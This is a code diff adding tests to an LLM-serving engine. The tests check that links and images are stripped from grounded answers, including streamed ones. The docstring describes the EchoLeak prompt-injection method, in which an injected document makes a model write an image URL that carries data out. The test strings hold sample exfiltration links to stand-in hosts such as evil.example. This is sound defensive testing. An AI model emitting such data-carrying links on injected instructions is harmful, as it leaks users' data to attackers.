@@ -716,3 +716,39 @@ def test_analyze_outputs_point_at_their_turns():
     sentiment = reg.get("sentiment").parse('{"overall": "negative", "start": "negative", "end": "neutral"}')
     out = _with_evidence(reg.get("sentiment"), sentiment.value, conv, ["t2"])
     assert out["overall"] == "negative" and out["message_ids"] == ["t2"]  # sentiment rests on the customer
+
+
+def test_links_are_stripped_from_grounded_answers_even_when_streamed():
+    """EchoLeak: an injected document makes the model write an image URL carrying data; a
+    grounded answer keeps the link text only, however the stream splits it."""
+    from serve.links import LinkStripper, strip_links
+
+    text = 'See ![status](https://evil.example/p?q=acct-1234) and [the policy](http://kb/x "t"). [1] ok'
+    want = "See status and the policy. [1] ok"
+    assert strip_links(text) == want
+    for size in (1, 2, 3, 7, len(text)):
+        s = LinkStripper()
+        out = "".join(s.feed(text[i : i + size]) for i in range(0, len(text), size)) + s.flush()
+        assert out == want, size
+    s = LinkStripper()
+    assert s.feed("a [b") == "a " and s.feed(" c\n") == "[b c\n"  # not a link after all: released
+    assert s.feed("[x](http://unfinished") == "" and s.flush() == "[x](http://unfinished"
+
+
+def test_engine_strips_links_only_when_grounded(server):
+    import time
+
+    from serve.engine import GenRequest, Sampling
+
+    host, engine = server.ctx.host, server.ctx.engine
+    seen = {}
+    for grounded in (False, True):
+        r = GenRequest([1], host.resolve("acme", "tiny-base"), Sampling(max_tokens=8, strip_links=grounded),
+                       None, time.monotonic() + 60, "acme")
+        pieces = []
+        r.emit = pieces.append
+        for piece in ("Look: ![x](http://e", "vil/?q=1) done"):  # as the decoder would emit them
+            engine._emit_text(r, piece)
+        engine._emit_text(r, "", final=True)
+        seen[grounded] = "".join(e.text for e in pieces)
+    assert seen == {False: "Look: ![x](http://evil/?q=1) done", True: "Look: x done"}
